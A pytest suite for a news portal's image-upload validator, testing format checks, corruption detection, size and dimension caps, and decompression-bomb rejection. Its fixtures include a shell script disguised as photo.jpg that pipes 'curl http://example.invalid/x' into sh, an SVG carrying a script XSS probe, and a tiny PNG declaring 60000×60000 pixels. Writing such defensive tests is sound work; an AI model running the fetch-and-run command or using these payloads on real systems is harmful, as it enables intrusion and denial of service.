import io

import pytest
from PIL import Image

from newsportal.media.validate import ImageLimits, ImageRejected, validate_image
from tests.media.helpers import encode, png_declaring, two_tone


@pytest.mark.parametrize(
    ("fmt", "mime"),
    [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp"), ("GIF", "image/gif")],
)
def test_each_allowed_type_is_accepted_by_content(fmt, mime):
    info = validate_image(encode(two_tone(48, 32), fmt))
    assert (info.format, info.mime, info.width, info.height) == (fmt, mime, 48, 32)


def test_animated_gif_is_accepted_and_flagged():
    frames = [Image.new("RGB", (16, 16), (250, 0, 0)), Image.new("RGB", (16, 16), (0, 0, 250))]
    data = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100)
    assert validate_image(data).animated is True


def test_script_renamed_jpg_is_refused(tmp_path):
    disguised = tmp_path / "photo.jpg"
    disguised.write_bytes(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    with pytest.raises(ImageRejected) as caught:
        validate_image(disguised.read_bytes())
    assert caught.value.code == "unsupported_type"
    assert "扩展名" in caught.value.message_zh


@pytest.mark.parametrize(
    "payload",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<html><body>x</body></html>",
    ],
)
def test_markup_is_not_an_image(payload):
    with pytest.raises(ImageRejected) as caught:
        validate_image(payload)
    assert caught.value.code == "unsupported_type"


@pytest.mark.parametrize("fmt", ["BMP", "TIFF"])
def test_real_images_in_other_formats_are_refused(fmt):
    with pytest.raises(ImageRejected) as caught:
        validate_image(encode(two_tone(), fmt))
    assert caught.value.code == "unsupported_type"


def test_truncated_jpeg_is_refused_as_corrupt():
    noisy = Image.effect_noise((64, 64), 60).convert("RGB")
    data = encode(noisy, "JPEG", quality=90)
    with pytest.raises(ImageRejected) as caught:
        validate_image(data[: len(data) // 2])
    assert caught.value.code == "corrupt"


def test_png_with_broken_crc_is_refused():
    data = bytearray(encode(two_tone(), "PNG"))
    idat = data.index(b"IDAT")
    data[idat + 6] ^= 0xFF  # flip a byte of compressed data; the chunk CRC no longer matches
    with pytest.raises(ImageRejected) as caught:
        validate_image(bytes(data))
    assert caught.value.code == "corrupt"


def test_empty_and_oversized_files_are_refused():
    with pytest.raises(ImageRejected) as empty:
        validate_image(b"")
    assert empty.value.code == "empty"
    data = encode(Image.effect_noise((64, 64), 80).convert("RGB"), "PNG")
    with pytest.raises(ImageRejected) as big:
        validate_image(data, ImageLimits(max_bytes=len(data) - 1))
    assert big.value.code == "too_large_file"
    assert "MB" in big.value.message_zh


def test_decompression_bomb_is_refused_before_decoding():
    bomb = png_declaring(60000, 60000)
    assert len(bomb) < 2000  # a tiny file ...
    with pytest.raises(ImageRejected) as caught:  # ... that would need 3.6 gigapixels
        validate_image(bomb)
    assert caught.value.code == "decompression_bomb"
    assert "解压炸弹" in caught.value.message_zh


def test_20000_by_20000_declared_image_is_refused():
    with pytest.raises(ImageRejected) as caught:
        validate_image(png_declaring(20000, 20000))
    assert caught.value.code in {"decompression_bomb", "too_large_dimensions"}
    assert "8000" in caught.value.message_zh


@pytest.mark.parametrize(("width", "height"), [(9000, 10), (10, 8001), (7000, 7000)])
def test_dimension_caps(width, height):
    # 7000x7000 is under the per-side cap but is 49 megapixels, over the 40 MP total.
    with pytest.raises(ImageRejected) as caught:
        validate_image(png_declaring(width, height))
    assert caught.value.code == "too_large_dimensions"
    assert f"{width}×{height}" in caught.value.message_zh


def test_dimension_cap_is_configurable_and_the_limit_itself_passes():
    data = encode(two_tone(100, 50), "PNG")
    assert validate_image(data, ImageLimits(max_side=100, max_pixels=5000)).width == 100
    with pytest.raises(ImageRejected):
        validate_image(data, ImageLimits(max_side=99))


def test_a_tight_per_call_cap_does_not_lower_the_process_wide_guard():
    """A small cap for one upload must not leak into Pillow's global guard, which also guards font drawing."""
    before = Image.MAX_IMAGE_PIXELS
    with pytest.raises(ImageRejected):
        validate_image(encode(two_tone(100, 100), "PNG"), ImageLimits(max_pixels=5000))
    assert Image.MAX_IMAGE_PIXELS == before == 40_000_000


def test_pillow_guard_is_restored_if_someone_disabled_it(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
    with pytest.raises(ImageRejected):
        validate_image(png_declaring(60000, 60000))
    assert Image.MAX_IMAGE_PIXELS == 40_000_000


def test_non_bytes_input_is_refused_not_crashed():
    with pytest.raises(ImageRejected):
        validate_image(io.BytesIO(b"x"))  # type: ignore[arg-type]
